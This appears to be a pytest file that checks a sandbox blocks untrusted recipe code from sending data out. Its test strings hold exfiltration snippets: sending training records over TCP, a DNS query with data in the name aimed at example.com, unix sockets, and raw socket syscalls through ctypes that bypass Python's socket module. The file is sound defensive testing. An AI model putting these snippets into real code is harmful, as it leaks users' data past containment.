"""Network attacks: nothing leaves the sandbox over TCP, UDP, unix sockets or DNS."""

from __future__ import annotations

import socket
import uuid

from tests.sandbox.conftest import nothing_arrived, recipe

from chiron.core.recipe_protocol import FromChild


def test_tcp_connect_to_a_loopback_listener(run_attack, tcp_listener, marker):
    port = tcp_listener.getsockname()[1]
    outcome = run_attack(
        recipe(
            f"""
            s = socket.create_connection(("127.0.0.1", {port}), timeout=5)
            s.sendall(b"{marker}")
            """
        )
    )
    assert outcome.reason == "policy_violation"
    assert nothing_arrived(tcp_listener)


def test_tcp_from_train_step_with_the_data(run_attack, tcp_listener):
    port = tcp_listener.getsockname()[1]
    outcome = run_attack(
        recipe(
            f"""
            def train_step(model, optimizer, x, y, hp):
                if x.any():  # the owner's records, not the declaration's probe
                    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(
                        x.numpy().tobytes()
                    )
            """
        )
    )
    assert outcome.reason == "policy_violation"
    assert FromChild.READY in [kind for kind, _ in outcome.received]  # it had the data
    assert nothing_arrived(tcp_listener)


def test_udp_datagram_to_a_loopback_listener(run_attack, udp_listener, marker):
    port = udp_listener.getsockname()[1]
    outcome = run_attack(
        recipe(
            f"""
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                b"{marker}", ("127.0.0.1", {port})
            )
            """
        )
    )
    assert outcome.reason == "policy_violation"
    assert nothing_arrived(udp_listener)


def test_dns_query_carrying_data(run_attack, udp_listener, marker):
    # Exfiltration in a DNS name, sent straight to a "resolver" the test runs, and
    # through the system resolver.
    port = udp_listener.getsockname()[1]
    label = marker.lower()[:60]
    outcome = run_attack(
        recipe(
            f"""
            name = b"".join(bytes([len(p)]) + p for p in b"{label}.example.com".split(b".")) + b"\\0"
            query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
            try:
                socket.getaddrinfo("{label}.example.com", 80)
            except OSError:
                pass
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", {port}))
            """
        )
    )
    assert outcome.reason == "policy_violation"
    assert nothing_arrived(udp_listener)


def test_unix_socket_to_a_listening_path(run_attack, host_dir, marker):
    path = host_dir / "enclave.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(1)
    server.setblocking(False)
    try:
        outcome = run_attack(
            recipe(
                f"""
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect("{path}")
                s.sendall(b"{marker}")
                """
            )
        )
        assert outcome.reason == "policy_violation"
        assert nothing_arrived(server)
    finally:
        server.close()


def test_abstract_unix_socket(run_attack, marker):
    name = f"\0chiron-red-team-{uuid.uuid4().hex}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    server.bind(name)
    server.setblocking(False)
    try:
        outcome = run_attack(
            recipe(
                f"""
                s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                s.sendto(b"{marker}", {name!r})
                """
            )
        )
        assert outcome.reason == "policy_violation"
        assert nothing_arrived(server)
    finally:
        server.close()


def test_raw_socket_syscall_through_ctypes(run_attack, udp_listener, marker):
    # socket(2) and sendto(2) by number, past Python's socket module.
    port = udp_listener.getsockname()[1]
    outcome = run_attack(
        recipe(
            f"""
            fd = libc.syscall(41, 2, 2, 0)  # socket(AF_INET, SOCK_DGRAM, 0)
            address = struct.pack("<HH4s8x", 2, socket.htons({port}), bytes([127, 0, 0, 1]))
            libc.syscall(44, fd, b"{marker}", {len(marker)}, 0, address, len(address))
            keep(b"socket returned %d" % fd)
            """
        )
    )
    assert outcome.reason == "policy_violation"
    assert nothing_arrived(udp_listener)
